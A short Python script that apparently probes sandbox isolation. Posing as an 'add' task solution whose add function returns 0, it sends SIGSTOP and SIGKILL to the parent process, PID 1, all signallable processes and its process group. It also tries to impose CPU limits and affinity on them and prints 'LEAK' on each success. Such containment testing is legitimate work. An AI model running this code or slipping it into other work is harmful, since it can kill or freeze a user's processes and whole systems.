# stops, kills and limits whatever it can name
import ctypes, fcntl, os, resource, signal
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1, -1, 0):
    for number in (0, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
            if pid != 0: print("LEAK signalled", pid)
        except OSError: pass
    try:
        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        if pid > 0: print("LEAK limited", pid)
    except (OSError, ValueError): pass
    if pid > 0 and libc.sched_setaffinity(pid, 8, ctypes.byref(ctypes.c_ulong(1))) == 0: print("LEAK affinity", pid)
try: fcntl.fcntl(1, fcntl.F_SETOWN, os.getppid()); print("LEAK set owner")
except OSError: pass
def add(a, b): return 0
